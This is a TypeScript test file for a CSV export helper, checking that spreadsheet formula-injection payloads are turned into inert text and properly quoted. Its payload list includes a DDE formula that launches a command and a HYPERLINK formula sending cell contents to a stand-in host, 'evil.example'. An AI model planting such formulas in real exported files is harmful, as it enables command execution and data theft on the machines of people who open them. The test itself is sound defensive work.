import { expect, it } from 'vitest';
import { csvCell, csvFile } from '#shared/domain/csv-cell.ts';

const commands = [
  'cmd|" /C calc"!A0',
  'HYPERLINK("https://evil.example?"&A1,"x")',
  'IMPORTXML("https://evil.example","//a")',
  '1+1',
  'SUM(A1:A9)',
  'DDE("cmd";"/C calc";"x")',
];
const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\uFEFF=', '\uFF1D', '\t', '\r'];
const payloads = starts.flatMap((start) => commands.map((command) => `${start}${command}`));

/** The text of a cell as a spreadsheet reads it back. */
const readBack = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

it('makes text of every formula: 72 payloads, none of which begins one [R24]', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(50);
  for (const payload of payloads) {
    const cell = csvCell(payload);
    expect(readBack(cell)).toBe(`'${payload}`);
    // Nothing of it gets out of its cell.
    if (/[,\r\n\t]/.test(payload)) expect(cell).toMatch(/^".*"$/s);
  }
});

it('leaves plain text as it is, and quotes what has to be', () => {
  expect(['Ada Lovelace', '2027-01-02', 'a=b', 'a-b', ''].map(csvCell)).toEqual([
    'Ada Lovelace',
    '2027-01-02',
    'a=b',
    'a-b',
    '',
  ]);
  expect(csvCell('Smith, "Al"')).toBe('"Smith, ""Al"""');
  expect(csvFile(['a', 'b'], [['1', '2\n3']])).toBe('\uFEFFa,b\r\n1,"2\n3"\r\n');
});
